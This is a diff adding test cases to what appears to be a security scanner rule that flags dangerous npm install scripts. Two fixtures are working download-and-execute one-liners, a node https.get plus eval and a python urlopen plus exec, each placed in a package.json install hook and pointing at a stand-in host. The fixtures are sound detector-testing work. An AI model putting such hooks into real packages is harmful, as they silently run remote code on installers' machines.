@@ -62,5 +62,20 @@ ruleTest(rule, {
       files: { 'package.json': pkg({ postinstall: 'node ./build/postinstall.js --postinstall' }) },
       findings: [{ line: 4, severity: 'low', confidence: 'low' }],
     },
+    {
+      name: 'inline postinstall that downloads and evals (node -e https.get … eval)',
+      files: { 'package.json': pkg({ postinstall: "node -e \"require('https').get('https://cdn.example.invalid/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"" }) },
+      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /downloads and executes code/ }],
+    },
+    {
+      name: 'inline preinstall python -c urlopen + exec',
+      files: { 'package.json': pkg({ preinstall: "python3 -c \"import urllib.request as u; exec(u.urlopen('https://cdn.example.invalid/x').read())\"" }) },
+      findings: [{ line: 4, severity: 'critical', confidence: 'high' }],
+    },
+    {
+      name: 'inline postinstall that only prints a URL stays high/medium, not critical',
+      files: { 'package.json': pkg({ postinstall: 'node -e "console.log(\'Support us: https://opencollective.com/x\')"' }) },
+      findings: [{ line: 4, severity: 'high', confidence: 'medium' }],
+    },
   ],
 });
